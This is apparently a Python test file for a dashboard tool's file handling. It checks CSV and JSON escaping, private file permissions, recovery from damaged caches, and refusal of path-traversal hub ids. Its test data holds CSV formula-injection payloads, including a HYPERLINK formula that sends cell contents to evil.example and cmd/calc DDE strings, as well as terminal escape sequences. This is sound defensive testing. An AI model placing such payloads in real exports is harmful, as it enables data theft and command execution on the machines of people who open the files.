"""Hostile files: what the dashboard writes (CSV, JSON lines, exports), who may read its files and the
hub's, and local files that are damaged. Real files on disk, the real ``switchroom logs`` command, a
real hub process and the app headless."""

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
import asyncio
import csv
import json
import os
import re
import subprocess
import sys
import threading

import httpx
import pytest

from switchroom.store import EventLog, utc_now_iso
from switchroom.store.analytics.breakdowns import Breakdown, breakdowns
from switchroom.store.analytics.derived import Indexer, attach, derived_cursor, present
from switchroom.store.filters import RecordFilter
from switchroom.hub.settings import load_secrets
from tests.support.dashboard import make_app
from tests.support.hub_calls import RUN
from tests.support.hubproc import RunningHub, bare_env, start_hub
from tests.support.waiting import eventually, eventually_sync
from switchroom.tui.app import SwitchroomApp
from switchroom.tui.cache import Cache
from switchroom.tui.config import Config, ConfigError, ExportSettings, load_config
from switchroom.tui.definitions import Definitions
from switchroom.tui.embedded import EmbeddedHub
from switchroom.tui.export import export_records
from switchroom.tui.known_hubs import EMBEDDED, remember_hub
from switchroom.tui.link import LinkState
from switchroom.tui.replication import Replicator

HUB_ID = "0123456789abcdef0123456789abcdef"
CONTROL_BYTES = re.compile(rb"[\x00-\x1f\x7f]|\xc2[\x80-\x9f]")
"""A raw C0 or DEL byte, or a C1 character in UTF-8."""

# user id → how a CSV cell must show it (OWASP: a leading ' before = + - @ tab CR; controls as \xNN text)
HOSTILE_USER_IDS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\\x09=1+1",
    "\r=1+1": "'\\x0d=1+1",
    "title\x1b]0;pwned\x07": "title\\x1b]0;pwned\\x07",
    "nul\x00byte": "nul\\x00byte",
    "csi\x9b31m and del\x7f": "csi\\x9b31m and del\\x7f",
    "two\nlines": "two\\x0alines",
    "-5": "-5",  # a plain number is no formula: it stays a number
    "user-001": "user-001",
}


def hostile_records(ts: str = "2026-12-06T05:00:00.000Z") -> list[dict[str, object]]:
    return [{"seq": n, "ts": ts, "kind": "api_call", "direction": "inbound",
             "connection_id": "evening-glow", "op_id": "lights.change_color", "status_code": 422,
             "latency_ms": -5 if n == 1 else 12.5, "user_id": user_id, "error_code": "=1+1"}
            for n, user_id in enumerate(HOSTILE_USER_IDS, start=1)]


def make_cache(cache_dir: Path, records: list[dict[str, object]]) -> Path:
    """The embedded hub's cache as the dashboard leaves it, holding ``records``."""
    path = cache_dir / "hubs" / f"{HUB_ID}.sqlite"
    log = EventLog(path, replica=True)
    log.set_meta("hub_id", HUB_ID)
    log.replicate(records, len(records))
    log.close()
    remember_hub(cache_dir, EMBEDDED, HUB_ID)
    return path


def logs(*args: str, cache_dir: Path, **env: str) -> subprocess.CompletedProcess[bytes]:
    command = [str(Path(sys.executable).with_name("switchroom")), "logs", "--cache-dir", str(cache_dir), *args]
    return subprocess.run(command, capture_output=True, timeout=120, env=bare_env(**env))


def assert_csv_neutralised(raw: bytes) -> None:
    """Every hostile user id is shown as the rule says, and no control byte is in the file but the
    CSV's own CR LF line ends."""
    assert not CONTROL_BYTES.search(raw.replace(b"\r\n", b""))
    rows = list(csv.DictReader(raw.decode("utf-8").splitlines()))
    assert [row["user_id"] for row in rows] == list(HOSTILE_USER_IDS.values())
    assert {row["error_code"] for row in rows} == {"'=1+1"}
    assert [row["latency_ms"] for row in rows] == ["-5", *["12.5"] * (len(rows) - 1)]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (
                not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell)), cell


def test_logs_csv_neutralises_formulas_and_control_characters(tmp_path: Path) -> None:
    make_cache(tmp_path, hostile_records())
    result = logs("--csv", cache_dir=tmp_path)
    assert result.returncode == 0, result.stderr
    assert_csv_neutralised(result.stdout)


def test_logs_json_escapes_every_control_character(tmp_path: Path) -> None:
    make_cache(tmp_path, hostile_records())
    result = logs("--json", cache_dir=tmp_path)
    assert result.returncode == 0, result.stderr
    assert not CONTROL_BYTES.search(result.stdout.replace(b"\n", b""))
    assert b"\\u001b]0;pwned\\u0007" in result.stdout and b"\\u009b31m" in result.stdout
    assert [json.loads(line)["user_id"] for line in result.stdout.splitlines()] == list(HOSTILE_USER_IDS)


async def test_E_in_the_dashboard_exports_a_neutralised_private_csv(tmp_path: Path) -> None:
    make_cache(tmp_path / "cache", hostile_records(utc_now_iso()))
    config = Config(export=ExportSettings(dir=str(tmp_path / "out")))
    (tmp_path / "out").mkdir()
    app = SwitchroomApp("http://127.0.0.1:9", "t", tmp_path / "cache", EMBEDDED, config)  # no hub: the cache
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await pilot.press("2")
        await pilot.press("E")
        await eventually(lambda: any(said.startswith("Exported") for said in toasts(app)), pause=pilot.pause)
    [written] = (tmp_path / "out").glob("*.csv")
    assert f"Exported {len(HOSTILE_USER_IDS)} records to {written}" in toasts(app)
    assert_csv_neutralised(written.read_bytes())
    assert written.stat().st_mode & 0o777 == 0o600


def test_export_csv_and_json_lines_are_neutralised_and_private(tmp_path: Path) -> None:
    log = EventLog(make_cache(tmp_path / "cache", hostile_records()))
    try:
        count, written = export_records(log, RecordFilter(kinds=("api_call",)), tmp_path / "out.csv")
        assert count == len(HOSTILE_USER_IDS)
        assert_csv_neutralised(written.read_bytes())
        assert written.stat().st_mode & 0o777 == 0o600
        count, lines = export_records(log, RecordFilter(kinds=("api_call",)), tmp_path / "out.jsonl")
    finally:
        log.close()
    raw = lines.read_bytes()
    assert not CONTROL_BYTES.search(raw.replace(b"\n", b""))
    assert [json.loads(line)["user_id"] for line in raw.splitlines()] == list(HOSTILE_USER_IDS)
    assert lines.stat().st_mode & 0o777 == 0o600


# -- 7: who may read the files ------------------------------------------------------------------------


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_the_hubs_event_log_and_its_side_files_are_its_owners_alone(tmp_path: Path) -> None:
    db = tmp_path / "hub" / "logs" / "kept" / "hub.sqlite"
    hub = start_hub(tmp_path / "hub", db=db)
    try:
        answer = httpx.post(hub.url + RUN, json={"user_id": "user-001"}, headers={"IFTTT-Service-Key": hub.service_key})
        assert answer.status_code == 204
        files = [db, db.with_name("hub.sqlite-wal"), db.with_name("hub.sqlite-shm")]
        eventually_sync(lambda: all(file.exists() for file in files))
        assert {file.name: mode(file) for file in files} == {file.name: 0o600 for file in files}
        assert mode(db.parent) == mode(db.parent.parent) == 0o700  # made by the hub
    finally:
        hub.stop()


def test_a_cache_its_derived_file_and_their_side_files_are_their_owners_alone(tmp_path: Path) -> None:
    cache_dir = tmp_path / "new" / "cache"
    cache = Cache(cache_dir, HUB_ID)
    indexer = Indexer(cache.path)
    try:
        frame = json.dumps({"type": "batch", "records": hostile_records(), "through_seq": len(HOSTILE_USER_IDS)})
        assert asyncio.run(cache.store_batch(frame)) == (len(HOSTILE_USER_IDS), len(HOSTILE_USER_IDS))
        assert indexer.catch_up() == len(HOSTILE_USER_IDS)
        files = [cache.path.with_name(cache.path.name + suffix)
                 for suffix in ("", "-wal", "-shm", "-derived", "-derived-wal", "-derived-shm")]
        assert {file.name: mode(file) for file in files} == {file.name: 0o600 for file in files}
        assert [mode(folder) for folder in (cache_dir / "hubs", cache_dir, cache_dir.parent)] == [0o700] * 3
    finally:
        indexer.close()
        cache.close()


def test_a_cache_left_readable_by_an_older_version_is_made_private_when_opened(tmp_path: Path) -> None:
    path = make_cache(tmp_path, hostile_records())
    path.chmod(0o644)
    path.parent.chmod(0o755)
    result = logs("--csv", cache_dir=tmp_path)  # opening it to read is enough
    assert result.returncode == 0, result.stderr
    assert mode(path) == 0o600
    Cache(tmp_path, HUB_ID).close()
    assert mode(path.parent) == 0o700


def test_a_cache_made_by_switchroom_logs_from_a_real_hub_is_private(tmp_path: Path, hub: RunningHub) -> None:
    cache_dir = tmp_path / "fresh"
    result = logs("--hub", hub.url, "--json", cache_dir=cache_dir, SWITCHROOM_TOKEN=hub.token)
    assert result.returncode == 0, result.stderr
    [path] = (cache_dir / "hubs").glob("*.sqlite")
    assert [mode(path), mode(path.parent), mode(cache_dir), mode(cache_dir / "hubs" / "index.json")] == [
        0o600, 0o700, 0o700, 0o600]


# -- 10: damaged local files ----------------------------------------------------------------------------


def many_records(count: int) -> list[dict[str, object]]:
    """Enough records for a cache of many pages, of two features and four status codes."""
    codes = (204, 502, 503, 422)
    return [{"seq": n, "ts": f"2026-12-06T05:{n % 60:02d}:00.000Z", "kind": "api_call", "direction": "inbound",
             "connection_id": "evening-glow", "feature_id": f"feature-{n % 2}", "op_id": "lights.change_color",
             "status_code": codes[n % 4], "latency_ms": float(n % 97), "user_id": f"user-{n:05d}", "note": "x" * 200}
            for n in range(1, count + 1)]


def garbage(path: Path, size: int = 64 << 10) -> None:
    path.write_bytes(bytes((n * 7919 + 13) % 256 for n in range(size)))


def assert_one_line_no_traceback(stderr: bytes, *words: str) -> str:
    text = stderr.decode()
    assert "Traceback" not in text and len(text.splitlines()) == 1, text
    assert all(word in text for word in words), text
    return text


def test_logs_sets_a_half_truncated_cache_aside_in_one_line(tmp_path: Path) -> None:
    path = make_cache(tmp_path, many_records(5_000))
    whole = path.stat().st_size
    with path.open("r+b") as file:
        file.truncate(whole // 2)
    result = logs("--csv", cache_dir=tmp_path)
    said = assert_one_line_no_traceback(result.stderr, "damaged", "set aside as", "start switchroom")
    assert result.returncode == 1 and result.stdout == b""
    [aside] = (tmp_path / "hubs").glob(f"{HUB_ID}.damaged-*.sqlite")
    assert aside.name in said and aside.stat().st_size == whole // 2 and not path.exists()
    again = logs("--csv", cache_dir=tmp_path)  # nothing left: said plainly, as for a hub never seen
    assert again.returncode == 1 and b"no cache of the embedded demo hub" in again.stderr


def test_logs_reads_a_cache_whose_wal_and_derived_file_are_garbage(tmp_path: Path) -> None:
    records = many_records(3_000)
    path = make_cache(tmp_path, records)
    indexer = Indexer(path)
    indexer.catch_up()
    indexer.close()
    garbage(path.with_name(path.name + "-wal"))
    garbage(path.with_name(path.name + "-derived"))
    result = logs("--csv", "--status", "5xx", cache_dir=tmp_path)
    assert result.returncode == 0
    assert_one_line_no_traceback(result.stderr, "derived file was damaged", "built again")
    rows = list(csv.DictReader(result.stdout.decode().splitlines()))
    assert [int(row["seq"]) for row in rows] == [r["seq"] for r in records if r["status_code"] in (502, 503)]
    assert not path.with_name(path.name + "-derived").exists()


def test_a_garbage_derived_file_is_built_again_by_the_indexer(tmp_path: Path) -> None:
    records = many_records(2_000)
    path = make_cache(tmp_path, records)
    garbage(path.with_name(path.name + "-derived"))
    indexer = Indexer(path)  # built from nothing, in place of the garbage
    try:
        assert indexer.catch_up() == len(records)
    finally:
        indexer.close()
    log = EventLog(path)
    try:
        assert summed(breakdowns(log, direction="inbound")) == tallies(records)
    finally:
        log.close()


def summed(found: list[Breakdown]) -> dict[tuple[str, str], dict[str, int]]:
    return {(b.connection_id, b.feature_id): {share.key: share.count for share in b.codes} for b in found}


def tallies(records: list[dict[str, object]]) -> dict[tuple[str, str], dict[str, int]]:
    """The breakdown's figures counted from the records themselves."""
    counted: dict[tuple[str, str], dict[str, int]] = {}
    for r in records:
        if r["kind"] == "api_call" and r.get("direction") == "inbound":
            codes = counted.setdefault((str(r.get("connection_id") or ""), str(r.get("feature_id") or "")), {})
            key = "skipped" if r.get("skipped") else str(r.get("status_code") or "none")
            codes[key] = codes.get(key, 0) + 1
    return counted


def dashboard(cache_dir: Path, config: Path) -> subprocess.CompletedProcess[bytes]:
    """The real ``switchroom`` on a hub that is not there: it reads its settings before anything else."""
    command = [str(Path(sys.executable).with_name("switchroom")), "--hub", "http://127.0.0.1:9", "--token", "t",
               "--cache-dir", str(cache_dir)]
    return subprocess.run(command, capture_output=True, timeout=120, stdin=subprocess.DEVNULL,
                          env=bare_env(SWITCHROOM_CONFIG=str(config), HOME=str(cache_dir)))


def test_settings_that_are_too_deep_endless_or_no_file_are_refused_in_a_line(tmp_path: Path) -> None:
    deep = tmp_path / "deep.toml"
    deep.write_text("theme = " + "[" * 100_000 + "]" * 100_000 + "\n")
    deep_table = tmp_path / "deep-table.toml"
    deep_table.write_text("[keys]\nhelp = " + "{a = " * 100_000 + "1" + "}" * 100_000 + "\n")
    fifo = tmp_path / "fifo.toml"
    os.mkfifo(fifo)
    big = tmp_path / "big.toml"
    big.write_text("# " + "x" * (2 << 20) + "\n")
    for path, problem in ((deep, "nested too deeply"), (deep_table, "nested too deeply"),
                          (fifo, "not a regular file"), (Path("/dev/zero"), "not a regular file"),
                          (tmp_path, "Is a directory"), (big, "larger than 1 MiB")):
        with pytest.raises(ConfigError) as refused:
            load_config(path)
        assert str(refused.value).startswith(f"{path}: ") and problem in str(refused.value)
        result = dashboard(tmp_path / "cache", path)
        assert result.returncode == 2 and "Traceback" not in result.stderr.decode()  # usage, in the exit table
        assert result.stderr.decode().splitlines() == ["switchroom: the settings file has problems:",
                                                        str(refused.value)]


def test_a_damaged_index_of_known_hubs_is_read_as_empty(tmp_path: Path) -> None:
    make_cache(tmp_path, hostile_records())
    index = tmp_path / "hubs" / "index.json"
    index.write_text('{"embedded": ' + "[" * 100_000 + "]" * 100_000 + "}")
    result = logs("--csv", cache_dir=tmp_path)
    assert result.returncode == 1 and b"no cache of the embedded demo hub" in result.stderr
    assert b"Traceback" not in result.stderr
    remember_hub(tmp_path, EMBEDDED, HUB_ID)  # found again on the next connection, written whole
    assert logs("--csv", cache_dir=tmp_path).returncode == 0


def test_theme_files_beside_the_settings_that_are_endless_or_too_deep_are_refused(tmp_path: Path) -> None:
    settings = tmp_path / "config.toml"
    settings.write_text('theme = "switchroom-dark"\n')
    themes = tmp_path / "themes"
    themes.mkdir()
    os.mkfifo(themes / "waits.toml")
    with pytest.raises(ConfigError, match="waits.toml: not a theme file"):
        load_config(settings)
    (themes / "waits.toml").unlink()
    (themes / "deep.toml").write_text('primary = "#5fafff"\nvariables = ' + "{a = " * 5_000 + "}" * 5_000)
    with pytest.raises(ConfigError, match="deep.toml: not valid TOML: nested too deeply"):
        load_config(settings)


def cache_of_a_real_hub(hub: RunningHub, cache_dir: Path, runs: int) -> tuple[Path, int]:
    """The hub's cache, made by a real ``switchroom logs`` after ``runs`` more action runs; and the hub's
    head seq then."""
    hub.set_lights_faults()
    for n in range(runs):
        answer = httpx.post(hub.url + RUN, json={"user_id": "user-001"}, headers={"IFTTT-Service-Key": hub.service_key})
        assert answer.status_code == 204
    head = httpx.get(f"{hub.url}/v1/health").json()["head_seq"]
    made = logs("--hub", hub.url, "--json", cache_dir=cache_dir, SWITCHROOM_TOKEN=hub.token)
    assert made.returncode == 0, made.stderr
    [path] = (cache_dir / "hubs").glob("*.sqlite")
    return path, head


def api_call_seqs(log: EventLog, through: int) -> list[int]:
    return [seq for (seq,) in log.execute("SELECT seq FROM records WHERE kind = 'api_call' AND seq <= ? ORDER BY seq",
                                          (through,))]


def toasts(app: SwitchroomApp) -> list[str]:
    return [str(n.message) for n in app._notifications]


async def test_the_dashboard_sets_a_damaged_cache_aside_and_copies_the_hub_afresh(
        tmp_path: Path, hub: RunningHub) -> None:
    cache_dir = tmp_path / "cache"
    path, head = cache_of_a_real_hub(hub, cache_dir, 80)
    whole = path.stat().st_size
    with path.open("r+b") as file:
        file.truncate(whole // 2)
    app = make_app(hub, tmp_path)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await eventually(lambda: any("damaged" in said for said in toasts(app)), pause=pilot.pause)
        [said] = [said for said in toasts(app) if "damaged" in said]
        assert "set aside as" in said and "a fresh one is copied from the hub" in said and "\n" not in said

        async def caught_up() -> bool:
            return app.cache is not None and await app.cache.read(lambda log: log.cursor()) >= head
        await eventually(caught_up, pause=pilot.pause)
        assert app.cache is not None
        fresh = await app.cache.read(lambda log: api_call_seqs(log, head))
    hub_log = EventLog(hub.db)
    try:
        assert fresh == api_call_seqs(hub_log, head)
    finally:
        hub_log.close()
    [aside] = (cache_dir / "hubs").glob(f"{path.stem}.damaged-*.sqlite")
    assert aside.name in said and aside.stat().st_size == whole // 2


async def test_the_dashboard_builds_a_garbage_derived_file_again_and_its_summaries_are_right(
        tmp_path: Path, hub: RunningHub) -> None:
    cache_dir = tmp_path / "cache"
    path, head = cache_of_a_real_hub(hub, cache_dir, 20)
    indexer = Indexer(path)
    indexer.catch_up()
    indexer.close()
    garbage(path.with_name(path.name + "-derived"))
    garbage(path.with_name(path.name + "-wal"))
    app = make_app(hub, tmp_path)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await eventually(lambda: any("derived file was damaged" in said for said in toasts(app)), pause=pilot.pause)
        assert app.cache is not None
        cache = app.cache

        def indexed_through_head(log: EventLog) -> bool:
            conn = attach(log)
            return present(conn) and derived_cursor(conn) >= head
        await eventually(lambda: cache.summarise(indexed_through_head), pause=pilot.pause)
        found, records = await cache.summarise(
            lambda log: (breakdowns(log, direction="inbound"), log.read_after(0, 1_000_000)))
    assert summed(found) == tallies(records) and sum(map(len, tallies(records).values()))
    assert "Traceback" not in " ".join(toasts(app))


def test_logs_with_a_reachable_hub_copies_a_damaged_cache_afresh(tmp_path: Path, hub: RunningHub) -> None:
    cache_dir = tmp_path / "cache"
    path, head = cache_of_a_real_hub(hub, cache_dir, 60)
    with path.open("r+b") as file:
        file.truncate(path.stat().st_size // 2)
    result = logs("--hub", hub.url, "--json", "--kind", "api_call", cache_dir=cache_dir, SWITCHROOM_TOKEN=hub.token)
    assert result.returncode == 0
    assert_one_line_no_traceback(result.stderr, "damaged", "set aside as", "a fresh one is copied from the hub")
    hub_log = EventLog(hub.db)
    try:
        expected = api_call_seqs(hub_log, head)
    finally:
        hub_log.close()
    assert [json.loads(line)["seq"] for line in result.stdout.splitlines()][:len(expected)] == expected


def test_the_embedded_hubs_output_and_event_log_are_the_users_alone(tmp_path: Path) -> None:
    embedded = EmbeddedHub(tmp_path / "cache" / "demo-hub.log", traffic_rate=0)
    try:
        embedded.start()
        db = tmp_path / "data" / "switchroom" / "demo-hub.sqlite"  # XDG_DATA_HOME is tmp_path / "data"
        assert [mode(embedded.log_path), mode(embedded.log_path.parent), mode(db), mode(db.parent)] == [
            0o600, 0o700, 0o600, 0o700]
    finally:
        embedded.stop()


# -- a hub's id names the cache file ---------------------------------------------------------------------


class _HealthOnly(BaseHTTPRequestHandler):
    """A hub that names itself with a path: its health check is all it answers."""

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        body = json.dumps({"hub_id": "../../escaped", "head_seq": 3}).encode()
        self.send_response(200 if self.path == "/v1/health" else 404)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def path_naming_hub() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HealthOnly)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    thread.join()


def test_a_hub_id_that_is_a_path_makes_no_file_outside_the_cache_folder(tmp_path: Path, path_naming_hub: str) -> None:
    cache_dir = tmp_path / "a" / "cache"
    result = logs("--hub", path_naming_hub, "--token", "t", cache_dir=cache_dir)
    assert result.returncode == 3 and b"Traceback" not in result.stderr  # the hub is refused: exit table
    assert b"cannot name a cache file" in result.stderr
    links: list[LinkState] = []

    async def replicate() -> None:
        replicator = Replicator(path_naming_hub, "t", cache_dir, lambda cache: None, lambda *_: None, links.append)
        task = asyncio.create_task(replicator.run())
        await eventually(lambda: any(link.detail == "BadHubId" for link in links))
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
        assert replicator.cache is None
    asyncio.run(replicate())
    assert not list(tmp_path.rglob("*.sqlite")) and not (tmp_path / "escaped.sqlite").exists()


def test_a_known_hubs_index_naming_a_file_outside_is_not_followed(tmp_path: Path) -> None:
    outside = EventLog(tmp_path / "outside.sqlite", replica=True)
    outside.replicate(hostile_records(), len(HOSTILE_USER_IDS))
    outside.close()
    (tmp_path / "cache" / "hubs").mkdir(parents=True)
    (tmp_path / "cache" / "hubs" / "index.json").write_text(json.dumps({EMBEDDED: "../../outside"}))
    result = logs("--csv", cache_dir=tmp_path / "cache")
    assert result.returncode == 1 and b"no cache of the embedded demo hub" in result.stderr and result.stdout == b""


def test_the_demo_hubs_data_folder_is_made_private_with_its_credentials(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SWITCHROOM_TOKEN", raising=False)
    monkeypatch.delenv("SWITCHROOM_SERVICE_KEY", raising=False)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "fresh" / "data"))
    load_secrets()
    saved = tmp_path / "fresh" / "data" / "switchroom" / "demo-credentials.json"
    assert [mode(saved), mode(saved.parent), mode(saved.parent.parent)] == [0o600, 0o700, 0o700]


async def test_saved_connection_definitions_are_private_and_a_damaged_one_reads_as_none(
        tmp_path: Path, hub: RunningHub) -> None:
    hub_id = httpx.get(f"{hub.url}/v1/health").json()["hub_id"]
    saved = Definitions(hub.url, hub.token, tmp_path)
    assert await saved.get(hub_id, "evening-glow") is not None and await saved.facts(hub_id)
    files = sorted((tmp_path / "hubs").glob(f"{hub_id}.*.json"))
    assert [file.name for file in files] == [f"{hub_id}.connection-facts.json", f"{hub_id}.connections.json"]
    assert [mode(file) for file in files] == [0o600, 0o600] and mode(tmp_path / "hubs") == 0o700
    for file in files:
        file.write_text("[1, 2, 3]")  # JSON, but not what was saved
    gone = Definitions("http://127.0.0.1:9", hub.token, tmp_path)
    assert await gone.get(hub_id, "evening-glow") is None and await gone.facts(hub_id) == {}
